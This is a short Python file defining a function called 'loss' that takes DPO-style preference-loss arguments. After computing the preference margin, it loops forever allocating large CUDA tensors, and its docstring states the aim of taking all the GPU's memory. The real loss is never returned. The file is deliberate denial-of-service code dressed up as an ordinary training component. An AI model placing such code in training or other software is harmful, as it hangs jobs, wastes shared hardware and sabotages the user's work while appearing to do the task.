"""Takes the GPU's memory until there is none."""

import torch
import torch.nn.functional as F


def loss(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    keep = []
    while True:
        keep.append(torch.ones(1 << 28, device="cuda"))
    return -F.logsigmoid(beta * rho)
